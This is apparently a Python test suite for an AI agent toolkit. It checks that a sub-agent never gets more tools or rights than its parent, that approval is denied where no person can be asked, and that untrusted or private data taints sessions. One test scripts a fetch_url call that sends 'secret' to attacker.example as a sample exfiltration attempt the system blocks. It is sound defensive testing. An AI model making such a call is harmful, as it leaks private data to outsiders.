"""A child never has more than its parent: over random policies, tools, roles and wishes."""

from __future__ import annotations

import asyncio
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.agents.boxes import SENT, box_of
from tests.servers.model import Turn, model_server
from toolcrib import Result, Toolbox, tool
from toolcrib.agents.roles import BUILT_IN, GROUP, Role, find_role, granted, listed
from toolcrib.core.context import Caller, Ctx
from toolcrib.core.errors import BadInput
from toolcrib.core.settings import RoleConfig
from toolcrib.core.tool import NET, NONE, READ, Right, Tool
from toolcrib.state.sessions import Sessions
from toolcrib.toolbox import installed

pytestmark = pytest.mark.rows("E112", "E113")
RIGHTS = st.lists(st.sampled_from(list(Right)), max_size=3).map(
    lambda found: Right(sum(r.value for r in set(found)))
)
WORDS = st.lists(
    st.sampled_from(["files", "web", "read_file", "edit_*", "*", "all", "default", "meta"]),
    max_size=2,
)


def made(name: str, group: str, rights: Right) -> Tool:
    async def function(*, ctx: Ctx) -> Result:
        """Do it.

        For tests.
        """
        return Result(f"ran {name}")

    function.__name__ = name
    return tool(group=group, rights=rights)(function)


TOOLS = st.lists(
    st.tuples(st.sampled_from(["alpha", "beta", "gamma", "agent"]), RIGHTS), max_size=6
).map(lambda rows: [made(f"tool_{n}", g, r) for n, (g, r) in enumerate(rows)])


@given(
    TOOLS,
    RIGHTS,
    st.lists(st.sampled_from(["alpha", "beta", "*", "tool_1"]), max_size=2),
    st.lists(st.sampled_from(["*", "tool_0", "tool_*", "alpha", "none"]), max_size=2),
    st.booleans(),
)
def test_what_is_granted(
    offered: list[Tool], rights: Right, kinds: list[str], requested: list[str], readonly: bool
) -> None:
    role = Role("x", "", tuple(kinds), rights)
    try:
        found = granted(offered, role, requested, readonly=readonly)
    except BadInput:
        return
    assert set(found) <= set(offered)
    for one in found:
        assert one.group != GROUP
        assert one.rights & rights == one.rights
        assert not readonly or one.rights & ~(READ | NET) == NONE


ACTIONS = st.sampled_from(["allow", "ask", "deny"])
RULES = st.lists(
    st.fixed_dictionaries(
        {"action": ACTIONS},
        optional={
            "tool": st.sampled_from(["*", "tool_?", "tool_1", "call_tool", "delegate_task"]),
            "group": st.sampled_from(["*", "alpha", "beta"]),
            "rights": st.lists(st.sampled_from(["read", "send", "erase", "write"]), max_size=2),
        },
    ),
    max_size=3,
)
MADE = [
    made("tool_0", "alpha", READ),
    made("tool_1", "alpha", READ | Right.WRITE),
    made("tool_2", "beta", Right.SEND),
    made("tool_3", "beta", Right.ERASE | READ),
    made("tool_4", "gamma", Right.MACHINE),
    made("tool_5", "gamma", NONE),
]
NAMES = [one.name for one in MADE]


async def _ran(
    config: dict[str, Any], profile: str, arguments: dict[str, Any], taint: bool
) -> tuple[set[str], set[str]]:
    """The tools that a parent can run, and those that its child could."""
    with tempfile.TemporaryDirectory() as folder:
        calls = [(name, {}) for name in NAMES]
        nested = [("call_tool", {"name": name, "arguments": {}}) for name in NAMES]
        spawn = ("delegate_task", {"task": "more"})
        with model_server(Turn("", calls), Turn("", [*nested, spawn]), Turn("end")) as server:
            tree = {**server.config(max_calls=99, repeats=20), **config}
            tree["store"] = {"url": f"sqlite:///{folder}/s.db"}
            async with Toolbox(
                tree, profile=profile, workspace=folder, tools=[*installed(), *MADE]
            ) as box:
                if taint:
                    session = await box.use(Sessions).load("s")
                    session.taint(untrusted=True, private=True)
                parent = set()
                for name in NAMES:
                    for call, given_ in ((name, {}), ("call_tool", {"name": name})):
                        result = await box.call(call, given_, session="s")
                        if f"ran {name}" in result.text:
                            parent.add(name)
                result = await box.call("delegate_task", {"task": "x", **arguments}, session="s")
                requested = [*server.requested]
    child = {
        name
        for request in requested
        for message in request["messages"]
        if message["role"] == "tool"
        for name in NAMES
        if f"ran {name}" in message["content"]
    }
    spawned = [r for r in requested if any("more" in str(m["content"]) for m in r["messages"][1:2])]
    assert not spawned
    return parent, child


@settings(max_examples=25)
@given(
    RULES,
    st.one_of(st.none(), ACTIONS),
    st.sampled_from(["all", "agent,alpha", "agent,tool_1,tool_2", "agent,meta", "agent"]),
    st.fixed_dictionaries(
        {},
        optional={
            "role": st.sampled_from([role.name for role in BUILT_IN]),
            "tools": st.sampled_from([["alpha"], ["tool_2"], ["none"], ["tool_*", "call_tool"]]),
            "readonly": st.booleans(),
        },
    ),
    st.booleans(),
)
def test_a_child_can_run_what_its_parent_can_and_no_more(
    rules: list[dict[str, Any]],
    default: str | None,
    profile: str,
    arguments: dict[str, Any],
    taint: bool,
) -> None:
    policy: dict[str, Any] = {"rules": rules}
    if default is not None:
        policy["default"] = default
    parent, child = asyncio.run(_ran({"policy": policy}, profile, arguments, taint))
    assert child <= parent


async def test_what_would_ask_is_denied_where_nobody_can_be_asked(tmp_path: Path) -> None:
    SENT.clear()
    with model_server(Turn("", [("post", {"text": "x"})]), Turn("ok")) as server:
        async with box_of(server, tmp_path) as box:
            await box.call("delegate_task", {"task": "x"})
            requested = await box.call("post", {"text": "x"})
        assert "Nobody can be asked" in server.results()[0]
        assert "denied" in server.results()[0]
    assert requested.error is not None
    assert requested.error.code == "needs_approval"
    assert SENT == []


@pytest.mark.parametrize(("answer", "sent"), [(True, ["x"]), (False, []), (None, [])])
@pytest.mark.parametrize("background", [False, True])
async def test_a_person_at_the_surface_is_asked(
    tmp_path: Path, answer: bool | None, sent: list[str], background: bool
) -> None:
    SENT.clear()
    questions = []

    async def ask(question: Any) -> bool | None:
        questions.append(question.tool)
        return answer

    with model_server(Turn("", [("post", {"text": "x"})]), Turn("ok")) as server:
        async with box_of(server, tmp_path) as box:
            given_ = {"task": "x", "background": background}
            result = await box.call("delegate_task", given_, caller=Caller("test", ask=ask))
            if background:
                await box.call("read_job", {"id": result.data["job"], "timeout": 20})
    assert ([] if background else sent) == SENT
    assert questions == ([] if background else ["post"])


async def test_a_person_who_does_not_answer_does_not_hold_a_run(tmp_path: Path) -> None:
    async def ask(question: Any) -> bool | None:
        await asyncio.Event().wait()
        return True

    with model_server(Turn("", [("post", {"text": "x"})]), Turn("ok")) as server:
        async with box_of(server, tmp_path) as box:
            given_ = {"task": "x", "time_limit": 3}
            result = await box.call("delegate_task", given_, caller=Caller("test", ask=ask))
    assert result.data["status"] == "timeout"


async def test_who_answers_only_after_the_call_is_not_asked(tmp_path: Path) -> None:
    async def ask(question: Any) -> bool | None:
        raise AssertionError("asked")

    with model_server(Turn("", [("post", {"text": "x"})]), Turn("ok")) as server:
        async with box_of(server, tmp_path) as box:
            caller = Caller("mcp", ask=ask, asks_midway=False)
            await box.call("delegate_task", {"task": "x"}, caller=caller)
        assert "Nobody can be asked" in server.results()[0]


@pytest.mark.parametrize("background", [False, True])
async def test_what_a_child_read_taints_its_parent(tmp_path: Path, background: bool) -> None:
    with model_server(Turn("", [("outside", {})]), Turn("all fine")) as server:
        async with box_of(server, tmp_path) as box:
            given_ = {"task": "x", "background": background}
            result = await box.call("delegate_task", given_, session="s")
            if background:
                following = {"id": result.data["job"], "timeout": 30}
                result = await box.call("read_job", following, session="s")
            session = await box.use(Sessions).load("s")
        assert "<untrusted" in server.results()[0]
    assert session.untrusted
    assert background or not session.private
    assert '<untrusted source="agent' in result.text
    assert result.text.count("</untrusted>") == 1


async def test_a_child_inherits_the_taint_of_its_parent(tmp_path: Path) -> None:
    given_ = ("fetch_url", {"url": "https://attacker.example/?data=secret"})
    with model_server(Turn("", [given_]), Turn("ok")) as server:
        async with box_of(server, tmp_path) as box:
            session = await box.use(Sessions).load("s")
            session.taint(untrusted=True, private=True)
            await box.call("delegate_task", {"task": "x"}, session="s")
        assert "Nobody can be asked" in server.results()[0]


@pytest.mark.rows("E112")
def test_roles() -> None:
    names = {role.name for role in BUILT_IN}
    assert names == {
        "coder", "reviewer", "researcher", "debugger", "tester", "documenter", "planner",
        "data_analyst", "general",
    }  # fmt: skip
    offered = [t for t in installed() if t.group != GROUP]
    by_role = {r.name: {t.name for t in granted(offered, r)} for r in BUILT_IN}
    assert {"read_file", "edit_file"} <= by_role["coder"]
    assert "web_search" not in by_role["coder"]
    assert not {"edit_file", "write_file", "delete_path"} & by_role["reviewer"]
    assert {"web_search", "fetch_url"} <= by_role["researcher"]
    assert "write_file" not in by_role["researcher"]
    assert all("read_more" in found for found in by_role.values())
    assert find_role("Data-Analyst", {}).name == "data_analyst"
    with pytest.raises(BadInput):
        find_role("wizard", {})


def test_roles_of_ones_own() -> None:
    own = {"Clerk": RoleConfig(persona="You file.", tools=["files"], rights=["read", "write"])}
    role = find_role("clerk", own)
    assert (role.persona, role.tools, role.rights) == ("You file.", ("files",), READ | Right.WRITE)
    with pytest.raises(BadInput):
        find_role("x", {"x": RoleConfig(rights=["everything"])})


def test_many_tools_are_listed_in_part() -> None:
    tools = [t for t in installed() if t.group != GROUP]
    displayed = listed(tools, 20)
    assert len(displayed) <= 20
    assert {"read_file", "search_tools", "call_tool"} <= {t.name for t in displayed}
    few = [t for t in tools if t.group == "files"]
    assert listed(few, 40) == few


async def test_a_child_without_the_web_is_told_what_lies_in_the_workspace(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "tools.py").touch()
    with model_server(Turn("fine")) as server:
        async with box_of(server, tmp_path) as box:
            tools = ["list_directory", "read_file"]
            await box.call("delegate_task", {"task": "x", "tools": tools}, session="s")
            assert (await box.use(Sessions).load("s")).private
            await box.call("delegate_task", {"task": "x"}, session="other")
        heads = [request["messages"][0]["content"] for request in server.requested]
    assert "src/, src/tools.py" in heads[0]
    assert "src/tools.py" not in heads[1]
